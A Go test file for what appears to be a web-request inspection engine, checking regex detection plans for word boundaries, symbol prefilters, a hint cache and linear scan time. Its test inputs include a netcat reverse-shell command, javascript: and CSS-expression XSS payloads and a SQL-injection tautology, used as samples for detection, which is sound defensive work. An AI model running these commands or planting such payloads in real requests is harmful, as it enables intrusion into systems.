package inspect

import (
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
	"unsafe"
)

// TestWindowWordPrefix checks plans run without the \b they open with (so
// that Go's regexp skips to their literal): a match of the rest inside a
// word, after a character of several bytes, at the start of the value or
// of a window, is one of the whole expression only where \b holds.
func TestWindowWordPrefix(t *testing.T) {
	compilePatterns()
	prose := strings.Repeat("the quick brown fox jumps over the lazy dog. ", 20)
	cases := []struct {
		v     string
		found bool // the whole expression matches
	}{
		{"xfor(a;;b) and then " + prose, false},
		{prose + "xfor(a;;b) for(;;){}", true},
		{"for(;;){} " + prose, true},
		{prose + "éfor(;;){}", true},
		{prose + "_for(;;){}", false},
		{prose + "9for(;;){}", false},
		{prose + "functionc -e here", false},
		{prose + "; nc -e /bin/sh 1.2.3.4 4444", true},
		{prose + "<p style=\"color:red;width:expression(alert(1))\">", true},
		{prose + "do{x++}while(true)", true},
		{prose + "undo{x++}while(x)", false},
	}
	for _, c := range cases {
		if got := sameAsWhole(t, c.v) > 0; got != c.found {
			t.Errorf("%.40q: found %v, want %v", c.v[max(0, len(c.v)-40):], got, c.found)
		}
	}
	n := 0
	for _, p := range patterns {
		for _, w := range p.plans {
			if w.word != nil {
				n++
			}
		}
	}
	if n == 0 {
		t.Error("no plan runs without its leading \\b")
	}
}

// TestWindowNeeds checks that a window lacking a symbol every match holds
// is skipped, and one holding it is searched: JavaScript named in a
// sentence against href=javascript:.
func TestWindowNeeds(t *testing.T) {
	compilePatterns()
	prose := strings.Repeat("javascript is a language and javascript runs in browsers. ", 20)
	if n := sameAsWhole(t, prose); n != 0 {
		t.Errorf("prose about javascript: %d matches, want 0", n)
	}
	if n := sameAsWhole(t, prose+`<a href="javascript:alert(1)">x</a>`+prose); n == 0 {
		t.Error("href=javascript: in prose: no match")
	}
	for _, p := range patterns {
		for _, w := range p.plans {
			if strings.HasPrefix(w.re.String(), `\b(?:href|src|action)\s*=`) {
				var eq, colon byteSet
				eq.add('=')
				colon.add(':')
				if len(w.needs) != 2 || w.needs[0] != eq || w.needs[1] != colon {
					t.Errorf("%.60q needs %d sets, want = and :", w.re.String(), len(w.needs))
				}
				return
			}
		}
	}
	t.Error("no plan for href=javascript:")
}

// TestEventCache checks that a long value's hints read with its events
// are those scanHints finds, that each window bit's index holds exactly
// the events of that bit, and that a value read again, or other bytes at
// the same place, are told apart.
func TestEventCache(t *testing.T) {
	compilePatterns()
	prose := strings.Repeat("javascript is a language; <a href=x> and select from where. ", 20)
	var c eventCache
	for _, v := range []string{prose, strings.ToUpper(prose), prose + "' or 1=1--", prose} {
		if got, want := c.hints(v), scanHints(v); got != want {
			t.Errorf("hints of %d bytes differ from scanHints", len(v))
		}
		ev := hintEventsOf(v, nil)
		x := c.index(v)
		for bit := range len(hintMask{}) * 64 {
			var want []int32
			for _, e := range ev {
				if hintAC.out[e.out].has(bit) && slices.Contains(hintAC.wins[e.out], uint16(bit)) {
					want = append(want, e.end)
				}
			}
			if got := x.of(bit); !slices.Equal(got, want) {
				t.Errorf("bit %d: index %v, events %v", bit, got, want)
			}
		}
	}
	b := []byte(prose)
	v := unsafe.String(&b[0], len(b))
	first := c.hints(v)
	copy(b, strings.Repeat("x", len(b)))
	if c.hints(v) == first {
		t.Error("other bytes at the same place read as the value before")
	}
}

// TestWindowWordLinear checks that a plan run without its leading \b
// stays linear when its rest matches inside words again and again, each
// match running to the end of the value (afor(;; … afor(;; … )): looking
// again after each would read the value once a match.
func TestWindowWordLinear(t *testing.T) {
	e := newTestEngine(t)
	for _, tok := range []string{"afor(;;", "undo{", "xstyle="} {
		var ts []time.Duration
		for n := 32 << 10; n <= 128<<10; n *= 2 {
			v := strings.Repeat(tok, n/len(tok)) + ")}"
			r := &Request{Method: "POST", URI: "/p", Header: http.Header{"Content-Type": {"application/json"}},
				Body: []byte(`{"a":"` + v + `"}`)}
			took, _, _ := inspectCost(e, r, 3)
			ts = append(ts, took)
		}
		if r1, r2 := float64(ts[1])/float64(ts[0]), float64(ts[2])/float64(ts[1]); r1 >= 3 && r2 >= 3 {
			t.Errorf("%q repeated: times %v, ×%.1f and ×%.1f for each doubling, want < ×3", tok, ts, r1, r2)
		}
	}
}
